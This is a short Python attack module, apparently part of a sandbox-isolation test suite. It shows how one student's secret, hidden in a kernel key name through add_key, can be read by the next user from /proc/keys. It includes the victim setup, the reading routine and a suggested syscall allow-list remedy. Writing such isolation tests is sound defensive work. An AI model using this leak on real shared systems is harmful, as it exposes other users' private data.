# SPDX-License-Identifier: MIT
"""key-names.py - the list is enough.

Goal: another student's work.
Means: /proc/keys lists the keys that one may look at, with their names. Whoever hides a word in a
key's name needs no second system call to find it again: the next one reads a file. A filter that
stops keyctl(2), but not add_key(2), stops nothing here.
"""

import ctypes
import time

from attack import DONE, attempting, denied, honest, loot

ADD_KEY, USER_KEYRING = 248, -4  # x86_64
INTERVAL = 0.3  # what died with the last student's user namespace is still listed for a moment


def run(brief):
    time.sleep(INTERVAL)
    attempting()
    try:
        with open("/proc/keys", encoding="utf-8", errors="replace") as file:
            names = file.read()
    except OSError as why:
        return denied("/proc/keys", why)
    if brief.name not in names:
        return denied("/proc/keys", "no such key")
    loot(names)
    return DONE


def victim(brief):
    libc = ctypes.CDLL(None, use_errno=True)
    name = f"{brief.name}:{brief.secret}".encode()
    if libc.syscall(ADD_KEY, b"user", name, b"ticket", ctypes.c_size_t(6), USER_KEYRING) >= 0:
        return DONE
    return honest(brief)  # no keyrings: a student who keeps the work in a file


ATTACK = {
    "effect": "the next student reads what the last one wrote into a key's name",
    "means": "/proc/keys lists the names of the user's keys",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "needs": ["x86_64", "keys"],
    "id": "PERS-14",
    "attack_id": "T1552, CWE-459, CWE-200",
    "remedy": "an allow list of system calls without add_key",
    "refs": ["keyrings(7)"],
    "run": run,
    "victim": victim,
}
